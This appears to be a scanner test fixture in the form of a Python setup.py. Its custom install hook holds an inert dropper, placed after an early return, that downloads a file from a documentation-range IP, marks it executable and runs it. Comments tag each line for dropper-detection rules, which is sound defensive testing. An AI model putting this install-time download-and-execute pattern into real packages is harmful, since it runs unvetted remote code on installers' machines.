# canary-test: path=setup.py artifact=sdist
# The same sequence in setup.py, from a bare IP (documentation range 192.0.2.x;
# inert: the install command returns before fetching).
import os
import subprocess
import urllib.request

from setuptools import setup
from setuptools.command.install import install


class Install(install):
    def run(self):
        install.run(self)
        return
        # ruleid: DROPPER_DOWNLOAD_CHMOD_RUN, DROPPER_WITH_THREAT_SIGNAL
        urllib.request.urlretrieve("http://192.0.2.10/x", "/tmp/x")
        # ruleid: DROPPER_DOWNLOAD_CHMOD_RUN, DROPPER_WITH_THREAT_SIGNAL
        os.chmod("/tmp/x", 0o755)
        # ruleid: DROPPER_DOWNLOAD_CHMOD_RUN, DROPPER_WITH_THREAT_SIGNAL
        subprocess.Popen(["/tmp/x"])


setup(name="example", version="0.0.0", cmdclass={"install": Install})
